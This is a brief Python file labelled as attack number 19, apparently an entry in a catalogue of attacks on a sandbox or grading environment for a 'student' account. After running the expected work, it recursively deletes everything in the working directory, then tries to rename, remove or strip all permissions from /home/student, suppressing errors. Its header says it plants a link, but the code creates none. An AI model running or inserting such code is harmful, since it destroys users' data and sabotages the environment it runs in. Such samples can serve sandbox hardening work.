# attack: 19
# does: works, then empties the working directory, closes it, and tries to put a link in its place
# run: finished
# earns: 9
# with: work
work()
import os
import shutil

for entry in os.scandir("."):
    shutil.rmtree(entry) if entry.is_dir() else os.unlink(entry)
for do in (lambda: os.rename("/home/student", "/home/s"), lambda: os.rmdir("/home/student"), lambda: os.chmod("/home/student", 0)):
    try:
        do()
    except OSError:
        pass
